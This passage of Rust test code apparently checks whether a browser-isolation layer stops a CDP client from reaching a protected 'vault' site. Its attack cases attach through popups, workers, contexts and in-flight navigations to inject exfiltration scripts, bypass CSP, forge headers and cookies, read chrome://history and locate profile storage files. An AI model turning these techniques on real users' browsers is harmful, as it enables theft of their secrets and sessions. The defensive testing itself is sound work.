        .map_err(|e| Stop::Failed(format!("the user's popup never loaded the vault: {e:?}")))?;
    Ok(popup)
}

fn popup_loads_init_script(ctx: &Ctx) -> Res {
    let js = ctx.exfil_js();
    popup_loaded_with(ctx, &ctx.vault("/app"), &|p| {
        let _ = ctx.send("Page.enable", json!({}), Some(p));
        ctx.send(
            "Page.addScriptToEvaluateOnNewDocument",
            json!({"source": js}),
            Some(p),
        )
        .map(|_| ())
    })?;
    ctx.exfiltrated(3000)
}

fn popup_loads_binding(ctx: &Ctx) -> Res {
    let name = format!("clientBinding{}", ctx.tag.replace(['-', '.'], ""));
    let popup = popup_loaded_with(ctx, &ctx.vault("/app"), &|p| {
        let _ = ctx.send("Runtime.enable", json!({}), Some(p));
        ctx.send("Runtime.addBinding", json!({"name": name}), Some(p))
            .map(|_| ())
    })?;
    let kind = ctx.user_eval(&popup, &format!("typeof window.{name}"))?;
    if kind == json!("function") {
        Ok(format!(
            "the vault's document has the client's binding {name}"
        ))
    } else {
        Err(Stop::Failed(format!(
            "the vault's document: typeof {name} is {kind}"
        )))
    }
}

fn popup_loads_bypass_csp(ctx: &Ctx) -> Res {
    popup_loaded_with(ctx, &ctx.vault("/app?csp=1"), &|p| {
        let _ = ctx.send("Page.enable", json!({}), Some(p));
        ctx.send("Page.setBypassCSP", json!({"enabled": true}), Some(p))
            .map(|_| ())
    })?;
    ctx.app()
        .app_event(&ctx.tag, "inline", "", Duration::from_secs(3))
        .map(|_| "the vault's inline script ran against its CSP".to_string())
        .ok_or_else(|| Stop::Failed("the vault's CSP held".into()))
}

fn popup_loads_override(ctx: &Ctx) -> Res {
    let ua = format!("client-agent-{}", ctx.tag);
    popup_loaded_with(ctx, &ctx.vault("/app"), &|p| {
        ctx.send(
            "Emulation.setUserAgentOverride",
            json!({"userAgent": ua}),
            Some(p),
        )
        .map(|_| ())
    })?;
    ctx.app()
        .wait(Duration::from_secs(2), |h| {
            h.host == on_site("vault.sliccy.ai") && h.header("user-agent") == Some(ua.as_str())
        })
        .map(|_| "the vault's server got the client's user agent".to_string())
        .ok_or_else(|| Stop::Failed("the vault's server never saw the client's user agent".into()))
}

fn attach_vault_popup(ctx: &Ctx) -> Res {
    let tab = ctx.user_open(&ctx.vault("/popup"))?;
    ctx.user_eval(&tab, "openBlank()")?;
    sleep(300);
    let popup = ctx
        .user_targets()
        .into_iter()
        .find(|t| t["openerId"] == json!(tab))
        .and_then(|t| t["targetId"].as_str().map(String::from))
        .ok_or_else(|| Stop::Setup("no popup".into()))?;
    let s = ctx.attach(&popup)?;
    let v = ctx.eval(&s, "document.title + ' ' + document.body.textContent")?;
    ctx.holds_secret("the popup's document", &v.to_string())
}

fn attach_vault_by_id(ctx: &Ctx) -> Res {
    let tab = ctx.user_open(&ctx.vault("/app"))?;
    let s = ctx.attach(&tab)?;
    let _ = ctx.eval(&s, &ctx.exfil_js());
    ctx.exfiltrated(2000)
}

fn close_vault_by_id(ctx: &Ctx) -> Res {
    let tab = ctx.user_open(&ctx.vault("/app"))?;
    let _ = ctx.send("Target.closeTarget", json!({"targetId": tab}), None);
    sleep(500);
    if ctx.user_target("page", &ctx.tag).is_none() {
        Ok("the vault tab is gone".into())
    } else {
        Err(Stop::Failed("the vault tab is still there".into()))
    }
}

fn tab_target(ctx: &Ctx) -> Res {
    ctx.user_open(&ctx.vault("/app"))?;
    let tab = ctx
        .user_target("tab", &ctx.tag)
        .ok_or_else(|| Stop::Setup("no tab target".into()))?;
    let t = ctx.attach(&tab)?;
    let from = ctx.c.event_count();
    ctx.send(
        "Target.setAutoAttach",
        json!({"autoAttach": true, "waitForDebuggerOnStart": false, "flatten": true}),
        Some(&t),
    )?;
    let (_, e) = ctx
        .c
        .wait_event(
            from,
            &|e| e.method == "Target.attachedToTarget",
            Duration::from_secs(3),
        )
        .ok_or_else(|| Stop::Failed("no page session under the tab".into()))?;
    let p = e.params["sessionId"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let _ = ctx.eval(&p, &ctx.exfil_js());
    ctx.exfiltrated(2000)
}

fn browser_target_session(ctx: &Ctx) -> Res {
    let tab = ctx.user_open(&ctx.vault("/app"))?;
    let b = ctx.send("Target.attachToBrowserTarget", json!({}), None)?;
    let b = b["sessionId"].as_str().unwrap_or_default().to_string();
    let r = ctx.send(
        "Target.attachToTarget",
        json!({"targetId": tab, "flatten": true}),
        Some(&b),
    )?;
    let p = r["sessionId"].as_str().unwrap_or_default().to_string();
    let _ = ctx.eval(&p, &ctx.exfil_js());
    ctx.exfiltrated(2000)
}

fn browser_context_vault(ctx: &Ctx) -> Res {
    let c = ctx.send("Target.createBrowserContext", json!({}), None)?;
    let t = ctx.send(
        "Target.createTarget",
        json!({"url": ctx.vault("/app"), "browserContextId": c["browserContextId"]}),
        None,
    )?;
    let s = ctx.attach(t["targetId"].as_str().unwrap_or_default())?;
    // A fresh context has no cookie: the secret comes from the document.
    ctx.exfil_loop(&s, 3000);
    ctx.exfiltrated(2000)
}

fn sw_attach(ctx: &Ctx) -> Res {
    sw_ready(ctx)?;
    let worker = ctx
        .user_target("service_worker", &on_site("sw.sliccy.ai"))
        .ok_or_else(|| Stop::Setup("no service worker target".into()))?;
    let s = ctx.attach(&worker)?;
    let _ = ctx.eval(&s, &ctx.exfil_js());
    ctx.exfiltrated(2000)
}

fn sw_registrations(ctx: &Ctx) -> Res {
    sw_ready(ctx)?;
    let (_, s) = client_page(ctx, None)?;
    let from = ctx.c.event_count();
    ctx.send("ServiceWorker.enable", json!({}), Some(&s))?;
    sleep(500);
    let text = serde_json::to_string(&ctx.events(from)).unwrap_or_default();
    ctx.holds_secret("ServiceWorker events", &text)
}

fn sw_push(ctx: &Ctx) -> Res {
    sw_ready(ctx)?;
    let (_, s) = client_page(ctx, None)?;
    let from = ctx.c.event_count();
    let _ = ctx.send("ServiceWorker.enable", json!({}), Some(&s));
    sleep(500);
    let mut ids: Vec<Value> = ctx
        .events(from)
        .iter()
        .filter(|e| e.method == "ServiceWorker.workerRegistrationUpdated")
        .flat_map(|e| {
            e.params["registrations"]
                .as_array()
                .cloned()
                .unwrap_or_default()
        })
        .filter(|r| {
            r["scopeURL"]
                .as_str()
                .is_some_and(|u| u.contains(&on_site("sw.sliccy.ai")))
        })
        .map(|r| r["registrationId"].clone())
        .collect();
    // Registration ids are small numbers: guess them too.
    ids.extend((0..4).map(|n| json!(n.to_string())));
    let data = format!("pushed-{}", ctx.tag);
    for id in ids {
        let _ = ctx.send(
            "ServiceWorker.deliverPushMessage",
            json!({"origin": on_site("http://sw.sliccy.ai"), "registrationId": id, "data": data}),
            Some(&s),
        );
    }
    ctx.app()
        .wait(Duration::from_secs(3), |h| {
            h.host == on_site("sw.sliccy.ai")
                && h.path() == "/ev"
                && h.param("v").is_some_and(|v| v == data)
        })
        .map(|_| "the vault's service worker handled the client's push".to_string())
        .ok_or_else(|| Stop::Failed("no push reached the vault's worker".into()))
}

fn e_info(events: &[slicc_browsers::harness::runner::Event]) -> String {
    events
        .iter()
        .filter(|e| e.method.starts_with("Target."))
        .map(|e| format!("{} {}", e.method, e.params["targetInfo"]["url"]))
        .collect::<Vec<_>>()
        .join(", ")
}

// ---- batch 3 ----

/// Waits (at most `ms`) until the client's `session` shows a main frame on the vault: its id.
fn wait_vault_frame(ctx: &Ctx, s: &str, ms: u64) -> Option<String> {
    let deadline = std::time::Instant::now() + Duration::from_millis(ms);
    while std::time::Instant::now() < deadline {
        if let Ok(t) = ctx.c.send_timeout(
            "Page.getFrameTree",
            json!({}),
            Some(s),
            Duration::from_millis(500),
        ) {
            let frame = &t["frameTree"]["frame"];
            if frame["url"]
                .as_str()
                .is_some_and(|u| u.starts_with(VAULT.as_str()))
            {
                return frame["id"].as_str().map(String::from);
            }
        }
        sleep(20);
    }
    None
}

fn inflight_set_document_content(ctx: &Ctx) -> Res {
    let s = attach_during_hop(ctx)?;
    let frame = wait_vault_frame(ctx, &s, 5000)
        .ok_or_else(|| Stop::Failed("the client never saw the vault commit".into()))?;
    let html = format!("<p>replaced</p><script>{}</script>", ctx.exfil_js());
    let _ = ctx.send(
        "Page.setDocumentContent",
        json!({"frameId": frame, "html": html}),
        Some(&s),
    );
    ctx.exfiltrated(3000)
}

fn inflight_file_input(ctx: &Ctx) -> Res {
    let s = attach_during_hop(ctx)?;
    wait_vault_frame(ctx, &s, 5000)
        .ok_or_else(|| Stop::Failed("the client never saw the vault commit".into()))?;
    let file = std::env::temp_dir().join(format!("attack-{}.txt", ctx.tag));
    let _ = std::fs::write(&file, "the client's file");
    let result = (|| {
        ctx.wait_true(&s, "document.readyState === 'complete'", 3000)?;
        let doc = ctx.send("DOM.getDocument", json!({}), Some(&s))?;
        let node = ctx.send(
            "DOM.querySelector",
            json!({"nodeId": doc["root"]["nodeId"], "selector": "#file"}),
            Some(&s),
        )?;
        ctx.send(
            "DOM.setFileInputFiles",
            json!({"nodeId": node["nodeId"], "files": [file.display().to_string()]}),
            Some(&s),
        )?;
        app_saw(ctx, "file", &format!("attack-{}", ctx.tag))
    })();
    let _ = std::fs::remove_file(&file);
    result
}

/// The user opens the popup page and opens its titled about:blank popup.
fn vault_popup_opened(ctx: &Ctx) -> Result<String, Stop> {
    let tab = ctx.user_open(&ctx.vault("/popup"))?;
    ctx.user_eval(&tab, "openBlank()")?;
    sleep(300);
    Ok(tab)
}

fn json_alias_popup(ctx: &Ctx) -> Res {
    vault_popup_opened(ctx)?;
    let (status, body) = ctx.client_get("/json");
    if status != 200 {
        return Err(Stop::Failed(format!("/json answered {status}")));
    }
    ctx.holds_secret("/json", &body)
}

fn get_targets_popup(ctx: &Ctx) -> Res {
    vault_popup_opened(ctx)?;
    let r = ctx.send("Target.getTargets", json!({}), None)?;
    ctx.holds_secret("Target.getTargets", &r.to_string())
}

fn shared_worker_attach(ctx: &Ctx) -> Res {
    ctx.user_open(&ctx.vault("/app?shared=1"))?;
    sleep(300);
    let worker = ctx
        .user_target("shared_worker", "shared.js")
        .ok_or_else(|| Stop::Setup("no shared worker target".into()))?;
    let s = ctx.attach(&worker)?;
    let _ = ctx.eval(&s, &ctx.exfil_js());
    ctx.exfiltrated(2000)
}

// ---- batch 4 ----

fn auto_attach_webui(ctx: &Ctx) -> Res {
    user_visits_secret_url(ctx)?;
    let from = ctx.c.event_count();
    ctx.send(
        "Target.setAutoAttach",
        json!({"autoAttach": true, "waitForDebuggerOnStart": false, "flatten": true}),
        None,
    )?;
    let (_, e) = ctx
        .c
        .wait_event(
            from,
            &|e| {
                e.method == "Target.attachedToTarget"
                    && e.params["targetInfo"]["type"] == "page"
                    && e.params["targetInfo"]["url"]
                        .as_str()
                        .is_some_and(|u| u.starts_with("chrome://"))
            },
            Duration::from_secs(3),
        )
        .ok_or_else(|| Stop::Failed("no session to a browser-internal page".into()))?;
    let s = e.params["sessionId"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    ctx.send(
        "Page.navigate",
        json!({"url": "chrome://history"}),
        Some(&s),
    )?;
    sleep(500);
    deep_text_holds_secret(
        ctx,
        &s,
        "chrome://history in an internal target",
        HISTORY_MS,
    )
}

fn coverage_same_site(ctx: &Ctx) -> Res {
    let s = same_site_popup(ctx, "?busy=1")?;
    ctx.send("Profiler.enable", json!({}), Some(&s))?;
    ctx.send(
        "Profiler.startPreciseCoverage",
        json!({"callCount": true, "detailed": true}),
        Some(&s),
    )?;
    sleep(500);
    let r = ctx.send("Profiler.takePreciseCoverage", json!({}), Some(&s))?;
    ctx.holds_secret("Profiler.takePreciseCoverage", &r.to_string())
}

fn cookie_header_subresource(ctx: &Ctx) -> Res {
    let value = format!("injected={}", ctx.tag);
    let hit = vault_subresource(ctx, &|s| {
        ctx.send("Network.enable", json!({}), Some(s))?;
        ctx.send(
            "Network.setExtraHTTPHeaders",
            json!({"headers": {"Cookie": value}}),
            Some(s),
        )?;
        Ok(())
    })?;
    match hit.header("cookie") {
        Some(v) if v.contains(&value) => Ok(format!("the vault request carried Cookie: {v}")),
        other => Err(Stop::Failed(format!(
            "the vault request's Cookie: {other:?}"
        ))),
    }
}

fn set_permission(ctx: &Ctx) -> Res {
    let tab = ctx.user_open(&ctx.vault("/app"))?;
    let _ = ctx.send(
        "Browser.setPermission",
        json!({"origin": *VAULT, "permission": {"name": "midi"}, "setting": "granted"}),
        None,
    );
    let state = ctx.user_eval(
        &tab,
        "navigator.permissions.query({name: 'midi'}).then((p) => p.state)",
    )?;
    if state == json!("granted") {
        Ok("the vault's MIDI permission is granted".into())
    } else {
        Err(Stop::Failed(format!(
            "the vault's MIDI permission: {state}"
        )))
    }
}

// ---- batch 5 ----

fn nested_oopif_insert_text(ctx: &Ctx) -> Res {
    // ordinary.test frames plain.example (0,0 400x300), which frames cross.example at its (0,0).
    let middle = format!(
        "http://plain.example/page?t=m&frame={}",
        encode("http://cross.example/page?t=x")
    );
    let (_, s) = client_page(ctx, Some(&middle))?;
    let f = frame_id(ctx, &s)?;
    sleep(300);
    // The middle frame's own script points its frame at the vault.
    let _ = ctx.send(
        "Page.navigate",
        json!({"frameId": f, "url": format!("javascript:void(document.getElementById('f').src = {})", json!(ctx.vault("/app")))}),
        Some(&s),
    );
    if !ctx.app_loaded(&ctx.tag, 5000) {
        return Err(Stop::Failed("the nested vault frame never loaded".into()));
    }
    sleep(300);
    click(ctx, &s, 100.0, 55.0)?;
    sleep(200);
    let text = format!("nested-{}", ctx.tag);
    ctx.send("Input.insertText", json!({"text": text}), Some(&s))?;
    app_saw(ctx, "typed", &text)
}

fn inflight_user_navigation(ctx: &Ctx) -> Res {
    let start = ctx.url("http://ordinary.test", "/page");
    let tab = ctx.user_open(&start)?;
    let us = ctx.user_session(&tab)?;
    // The user follows a link to the vault, whose server takes 2 s to answer.
    let _ = ctx.obs().send(
        "Runtime.evaluate",
        json!({"expression": format!("location.href = {}; true", json!(ctx.vault("/app?ms=2000")))}),
        Some(&us),
    );
    let _ = ctx
        .obs()
        .send("Target.detachFromTarget", json!({"sessionId": us}), None);
    ctx.app()
        .wait(Duration::from_secs(3), |h| {
            h.path() == "/app" && h.target.contains(&ctx.tag)
        })
        .ok_or_else(|| Stop::Setup("the vault was never requested".into()))?;
    let s = ctx.attach(&tab)?;
    let _ = ctx.send("Page.enable", json!({}), Some(&s));
    let _ = ctx.send(
        "Page.addScriptToEvaluateOnNewDocument",
        json!({"source": ctx.exfil_js()}),
        Some(&s),
    );
    ctx.exfil_loop(&s, 4000);
    ctx.exfiltrated(2000)
}

fn inflight_user_hop(ctx: &Ctx) -> Res {
    inflight_user_hop_waiting(ctx, 6)
}

/// [`inflight_user_hop`], the client waiting at most `secs` for its attach to be answered.
fn inflight_user_hop_waiting(ctx: &Ctx, secs: u64) -> Res {
    let start = ctx.url("http://ordinary.test", "/page");
    let tab = ctx.user_open(&start)?;
    let us = ctx.user_session(&tab)?;
    // The user follows a link to an ordinary page that redirects to the vault after 2 s.
    let hop = format!(
        "http://ordinary.test/hop?ms=2000&t={}&to={}",
        ctx.tag,
        encode(&ctx.vault("/app"))
    );
    let _ = ctx.obs().send(
        "Runtime.evaluate",
        json!({"expression": format!("location.href = {}; true", json!(hop))}),
        Some(&us),
    );
    let _ = ctx
        .obs()
        .send("Target.detachFromTarget", json!({"sessionId": us}), None);
    ctx.app()
        .wait(Duration::from_secs(3), |h| {
            h.path() == "/hop" && h.target.contains(&ctx.tag)
        })
        .ok_or_else(|| Stop::Setup("the hop was never requested".into()))?;
    let r = ctx
        .c
        .send_timeout(
            "Target.attachToTarget",
            json!({"targetId": tab, "flatten": true}),
            None,
            Duration::from_secs(secs),
        )
        .map_err(|e| super::failed("Target.attachToTarget", e))?;
    let s = r["sessionId"].as_str().unwrap_or_default().to_string();
    let _ = ctx.send("Page.enable", json!({}), Some(&s));
    let _ = ctx.send(
        "Page.addScriptToEvaluateOnNewDocument",
        json!({"source": ctx.exfil_js()}),
        Some(&s),
    );
    ctx.exfil_loop(&s, 5000);
    ctx.exfiltrated(2000)
}

/// The client's page (extra header `X-Attack: <tag>` set) runs `script`; whether a vault
/// request for `/img` carried the header.
fn extra_header_via(ctx: &Ctx, script: &str) -> Res {
    let (_, s) = client_page(ctx, None)?;
    ctx.send("Network.enable", json!({}), Some(&s))?;
    ctx.send(
        "Network.setExtraHTTPHeaders",
        json!({"headers": {"X-Attack": ctx.tag}}),
        Some(&s),
    )?;
    ctx.eval(&s, script)?;
    let hit = ctx
        .app()
        .wait(Duration::from_secs(3), |h| {
            h.host == on_site("vault.sliccy.ai")
                && h.path() == "/img"
                && h.target.contains(&ctx.tag)
        })
        .ok_or_else(|| Stop::Failed("no vault subresource request".into()))?;
    match hit.header("x-attack") {
        Some(v) if v == ctx.tag => Ok("the vault request carried X-Attack".into()),
        _ => Err(Stop::Failed("the vault request carried no X-Attack".into())),
    }
}

fn extra_headers_redirect(ctx: &Ctx) -> Res {
    let hop = format!(
        "http://ordinary.test/hop?t={}&to={}",
        ctx.tag,
        encode(&ctx.vault("/img"))
    );
    extra_header_via(
        ctx,
        &format!(
            "fetch({}, {{mode: 'no-cors'}}).then(() => true, () => false)",
            json!(hop)
        ),
    )
}

/// Starts a dedicated worker running `inner` (a `blob:` script) in the client's page `s`, whose
/// auto-attach is on since event `from`; the worker's session.
fn blob_worker(ctx: &Ctx, s: &str, from: usize, inner: &str) -> Result<String, Stop> {
    ctx.eval(
        s,
        &format!(
            "(() => {{ window.w = new Worker(URL.createObjectURL(new Blob([{}], {{type: 'text/javascript'}}))); return true; }})()",
            json!(inner)
        ),
    )?;
    let (_, attached) = ctx
        .c
        .wait_event(
            from,
            &|e| {
                e.method == "Target.attachedToTarget" && e.params["targetInfo"]["type"] == "worker"
            },
            Duration::from_secs(5),
        )
        .ok_or_else(|| Stop::Failed("no worker session".into()))?;
    Ok(attached.params["sessionId"]
        .as_str()
        .unwrap_or_default()
        .to_string())
}

fn worker_session_headers(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    let from = ctx.c.event_count();
    ctx.send(
        "Target.setAutoAttach",
        json!({"autoAttach": true, "waitForDebuggerOnStart": false, "flatten": true}),
        Some(&s),
    )?;
    // A worker that fetches the vault's image when told to.
    let inner = format!(
        "onmessage = () => fetch({}, {{mode: 'no-cors'}}).then(() => postMessage(true), () => postMessage(false));",
        json!(ctx.vault("/img"))
    );
    let ws = blob_worker(ctx, &s, from, &inner)?;
    ctx.send("Network.enable", json!({}), Some(&ws))?;
    ctx.send(
        "Network.setExtraHTTPHeaders",
        json!({"headers": {"X-Attack": ctx.tag}}),
        Some(&ws),
    )?;
    ctx.eval(
        &s,
        "new Promise((r) => { w.onmessage = (e) => r(e.data); w.postMessage(1); setTimeout(() => r(false), 3000); })",
    )?;
    let hit = ctx
        .app()
        .wait(Duration::from_secs(3), |h| {
            h.host == on_site("vault.sliccy.ai")
                && h.path() == "/img"
                && h.target.contains(&ctx.tag)
        })
        .ok_or_else(|| Stop::Failed("no vault request from the worker".into()))?;
    match hit.header("x-attack") {
        Some(v) if v == ctx.tag => Ok("the worker's vault request carried X-Attack".into()),
        _ => Err(Stop::Failed(
            "the worker's vault request carried no X-Attack".into(),
        )),
    }
}

fn extra_headers_websocket(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    ctx.send("Network.enable", json!({}), Some(&s))?;
    ctx.send(
        "Network.setExtraHTTPHeaders",
        json!({"headers": {"X-Attack": ctx.tag}}),
        Some(&s),
    )?;
    let url = on_site(&format!("ws://vault.sliccy.ai/ws?t={}", ctx.tag));
    ctx.eval(
        &s,
        &format!(
            "new Promise((r) => {{ const w = new WebSocket({}); w.onopen = () => r(true); w.onerror = () => r(false); setTimeout(() => r(false), 3000); }})",
            json!(url)
        ),
    )?;
    let hit = ctx
        .app()
        .wait(Duration::from_secs(3), |h| {
            h.host == on_site("vault.sliccy.ai") && h.path() == "/ws" && h.target.contains(&ctx.tag)
        })
        .ok_or_else(|| Stop::Failed("no WebSocket handshake reached the vault".into()))?;
    match hit.header("x-attack") {
        Some(v) if v == ctx.tag => Ok("the vault's WebSocket handshake carried X-Attack".into()),
        _ => Err(Stop::Failed(
            "the vault's WebSocket handshake carried no X-Attack".into(),
        )),
    }
}

// ---- session 6 ----

/// The client's attached `session` on a tab whose navigation to the vault is under way: an
/// init script, `runIfWaitingForDebugger`, then the exfiltration script every 20 ms.
fn exfil_during_commit(ctx: &Ctx, s: &str) -> Res {
    let _ = ctx.send("Page.enable", json!({}), Some(s));
    let _ = ctx.send(
        "Page.addScriptToEvaluateOnNewDocument",
        json!({"source": ctx.exfil_js(), "runImmediately": true}),
        Some(s),
    );
    let _ = ctx.send("Runtime.runIfWaitingForDebugger", json!({}), Some(s));
    ctx.exfil_loop(s, 6000);
    ctx.exfiltrated(3000)
}

/// Waits until the app saw this attack's slow hop.
fn hop_requested(ctx: &Ctx) -> Result<(), Stop> {
    ctx.app()
        .wait(Duration::from_secs(5), |h| {
            h.path() == "/hop" && h.target.contains(&ctx.tag)
        })
        .map(|_| ())
        .ok_or_else(|| Stop::Setup("the hop was never requested".into()))
}

/// The client's page opens the slow hop to the vault in a popup (`features`, and `touch`: the
/// opener writes into the popup's initial document); the client attaches to the popup while
/// the hop is held and races the commit.
fn popup_hop(ctx: &Ctx, features: &str, touch: bool) -> Res {
    let (t, s) = client_page(ctx, None)?;
    let script = format!(
        "(() => {{ const w = window.open({}, '_blank', {}); if (w && {touch}) {{ w.document.title = 'touched'; w.document.body && (w.document.body.textContent = 'touched'); }} return true; }})()",
        json!(hop_to_vault(ctx, 2000)),
        json!(features),
    );
    ctx.eval(&s, &script)?;
    hop_requested(ctx)?;
    let popup = {
        let deadline = std::time::Instant::now() + Duration::from_secs(2);
        loop {
            let r = ctx.send("Target.getTargets", json!({}), None)?;
            let found = r["targetInfos"]
                .as_array()
                .cloned()
                .unwrap_or_default()
                .into_iter()
                .find(|i| {
                    i["type"] == "page"
                        && i["targetId"] != json!(t)
                        && (i["openerId"] == json!(t)
                            || i["url"].as_str().is_some_and(|u| u.contains(&ctx.tag)))
                })
                .and_then(|i| i["targetId"].as_str().map(String::from));
            if let Some(f) = found {
                break f;
            }
            if std::time::Instant::now() >= deadline {
                return Err(Stop::Failed(format!("the client never saw the popup: {r}")));
            }
            sleep(50);
        }
    };
    let p = ctx.attach(&popup)?;
    exfil_during_commit(ctx, &p)
}

fn popup_touched_hop(ctx: &Ctx) -> Res {
    popup_hop(ctx, "", true)
}

fn popup_noopener_hop(ctx: &Ctx) -> Res {
    popup_hop(ctx, "noopener", false)
}

fn inflight_new_context(ctx: &Ctx) -> Res {
    let c = ctx.send("Target.createBrowserContext", json!({}), None)?;
    let t = ctx.send(
        "Target.createTarget",
        json!({"url": hop_to_vault(ctx, 2000), "browserContextId": c["browserContextId"], "newWindow": true, "background": true}),
        None,
    )?;
    let id = t["targetId"].as_str().unwrap_or_default().to_string();
    hop_requested(ctx)?;
    let s = ctx.attach(&id)?;
    exfil_during_commit(ctx, &s)
}

/// The client's page on `other.client.example` gets `method` (`params`), then opens the extra
/// origin's app in a popup (same site: one renderer); the popup's own `kind` beacon reports
/// `value`.
fn same_site_override(ctx: &Ctx, method: &str, params: Value, kind: &str, value: &str) -> Res {
    same_site_override_when(ctx, method, params, kind, value, |v| v.contains(value))
}

/// [`same_site_override`] with the popup's report judged by `shows` (`value` names it).
fn same_site_override_when(
    ctx: &Ctx,
    method: &str,
    params: Value,
    kind: &str,
    value: &str,
    shows: impl Fn(&str) -> bool,
) -> Res {
    let url = ctx.url("http://other.client.example", "/page");
    let (_, s) = ctx.open(&url)?;
    // Its initial empty document is complete too: wait for the page itself.
    ctx.wait_true(
        &s,
        &format!(
            "location.href === {} && document.readyState === 'complete'",
            json!(url)
        ),
        10_000,
    )?;
    ctx.send(method, params, Some(&s))?;
    let app = ctx.url("http://client.example", "/app");
    ctx.eval(
        &s,
        &format!("window.__w = window.open({}); true", json!(app)),
    )?;
    ctx.app()
        .wait(Duration::from_secs(5), |h| {
            h.path() == "/ev"
                && super::app::is_protected_host(&h.host)
                && h.param("t").as_deref() == Some(ctx.tag.as_str())
                && h.param("k").as_deref() == Some(kind)
                && shows(&h.param("v").unwrap_or_default())
                && h.header("sec-fetch-site") == Some("same-origin")
        })
        .map(|h| {
            format!(
                "the extra origin's page reported {kind} {:?}",
                h.param("v").unwrap_or_default()
            )
        })
        .ok_or_else(|| {
            let seen: Vec<String> = ctx
                .app()
                .log()
                .iter()
                .filter(|h| h.path() == "/ev" && h.target.contains(&ctx.tag))
                .map(|h| h.target.clone())
                .collect();
            Stop::Failed(format!("the popup never reported {kind} {value}: {seen:?}"))
        })
}

/// The override is set on an ordinary page of another site, then the page goes to a page
/// same-site with the extra origin: the session carries the override into that site's
/// renderer, which the popup shares.
fn timezone_then_same_site(ctx: &Ctx) -> Res {
    let (_, s) = ctx.open(&ctx.url("http://ordinary.test", "/page"))?;
    ctx.wait_true(&s, "document.readyState === 'complete'", 10_000)?;
    ctx.send(
        "Emulation.setTimezoneOverride",
        json!({"timezoneId": "Pacific/Kiritimati"}),
        Some(&s),
    )?;
    let same_site = ctx.url("http://other.client.example", "/page");
    ctx.eval(&s, &format!("location.href = {}; true", json!(same_site)))?;
    ctx.wait_true(
        &s,
        "location.host === 'other.client.example' && document.readyState === 'complete'",
        10_000,
    )?;
    let app = ctx.url("http://client.example", "/app");
    ctx.eval(
        &s,
        &format!("window.__w = window.open({}); true", json!(app)),
    )?;
    ctx.app()
        .app_event(&ctx.tag, "tz", "Pacific/Kiritimati", Duration::from_secs(5))
        .map(|h| {
            format!(
                "the extra origin's page reported tz {:?}",
                h.param("v").unwrap_or_default()
            )
        })
        .ok_or_else(|| Stop::Failed("the popup never reported the client's time zone".into()))
}

fn timezone_same_site(ctx: &Ctx) -> Res {
    same_site_override(
        ctx,
        "Emulation.setTimezoneOverride",
        json!({"timezoneId": "Pacific/Kiritimati"}),
        "tz",
        "Pacific/Kiritimati",
    )
}

fn locale_same_site(ctx: &Ctx) -> Res {
    same_site_override(
        ctx,
        "Emulation.setLocaleOverride",
        json!({"locale": "fr-CA"}),
        "locale",
        "fr-CA",
    )
}

fn dispose_user_context(ctx: &Ctx) -> Res {
    let c = ctx
        .obs()
        .send("Target.createBrowserContext", json!({}), None)
        .map_err(|e| super::setup("the user's context", e))?;
    let context = c["browserContextId"].clone();
    let vault = ctx.vault("/app");
    let t = ctx
        .obs()
        .send(
            "Target.createTarget",
            json!({"url": vault, "browserContextId": context}),
            None,
        )
        .map_err(|e| super::setup("the user's tab", e))?;
    let tab = t["targetId"].as_str().unwrap_or_default().to_string();
    ctx.user_wait_loaded(&tab, &vault)?;
    // The user's ordinary tab in the same context shows the client its id.
    let _ = ctx.obs().send(
        "Target.createTarget",
        json!({"url": ctx.url("http://ordinary.test", "/page"), "browserContextId": context}),
        None,
    );
    sleep(300);
    let mut ids: Vec<Value> = Vec::new();
    if let Ok(r) = ctx.send("Target.getBrowserContexts", json!({}), None) {
        ids.extend(
            r["browserContextIds"]
                .as_array()
                .cloned()
                .unwrap_or_default(),
        );
    }
    if let Ok(r) = ctx.send("Target.getTargets", json!({}), None) {
        ids.extend(
            r["targetInfos"]
                .as_array()
                .cloned()
                .unwrap_or_default()
                .iter()
                .map(|i| i["browserContextId"].clone()),
        );
    }
    let mut answers = Vec::new();
    if let Some(id) = ids.iter().find(|i| **i == context) {
        answers.push(
            ctx.c
                .send(
                    "Target.disposeBrowserContext",
                    json!({"browserContextId": id}),
                    None,
                )
                .map(|_| "ok".to_string())
                .unwrap_or_else(|e| e.to_string()),
        );
    }
    sleep(500);
    if ctx
        .user_targets()
        .iter()
        .any(|t| t["targetId"] == json!(tab))
    {
        Err(Stop::Failed(format!(
            "the vault tab is still there ({answers:?})"
        )))
    } else {
        Ok("the vault tab is gone with its context".into())
    }
}

fn browser_close(ctx: &Ctx) -> Res {
    let tab = ctx.user_open(&ctx.vault("/app"))?;
    let r = ctx.c.send("Browser.close", json!({}), None);
    sleep(1000);
    ctx.tab_gone(&tab, "the browser closed, and the vault tab with it", &r)
}

fn virtual_time_same_site(ctx: &Ctx) -> Res {
    same_site_override_when(
        ctx,
        "Emulation.setVirtualTimePolicy",
        json!({"policy": "advance", "initialVirtualTime": 1_000_000_000}),
        "time",
        "about 1e12 (the virtual clock, not today's)",
        // `advance` runs the virtual clock ahead while the page idles (33 s seen under load):
        // anything below 1.5e12 ms is the client's clock, not today's (about 1.8e12).
        |v| v.parse::<f64>().is_ok_and(|t| (1e12..1.5e12).contains(&t)),
    )
}

fn offline_same_site(ctx: &Ctx) -> Res {
    same_site_override(
        ctx,
        "Network.emulateNetworkConditions",
        json!({"offline": true, "latency": 0, "downloadThroughput": -1, "uploadThroughput": -1}),
        "online",
        "false",
    )
}

/// The leg's browser profile: where a user's browser keeps it is well known
/// (`~/.config/chromium`); the test's browser has a temporary one.
fn profile_dir(ctx: &Ctx) -> Option<std::path::PathBuf> {
    Some(ctx.leg.chromium.profile_dir().to_path_buf())
}

/// The files the profile keeps site storage in (Local Storage and IndexedDB), by path.
fn storage_files(profile: &std::path::Path) -> Vec<String> {
    fn walk(dir: &std::path::Path, depth: u32, out: &mut Vec<String>) {
        let Ok(rd) = std::fs::read_dir(dir) else {
            return;
        };
        for e in rd.flatten() {
            let p = e.path();
            if p.is_dir() && depth > 0 {
                walk(&p, depth - 1, out);
            } else if p.is_file() && e.metadata().is_ok_and(|m| m.len() > 0 && m.len() < 4 << 20) {
                out.push(p.display().to_string());
            }
        }
    }
    let mut out = Vec::new();
    for sub in ["Default/Local Storage", "Default/IndexedDB"] {
        walk(&profile.join(sub), 3, &mut out);
    }
    out
}

/// The user visits the vault and its page stores its secret (local storage, a database).
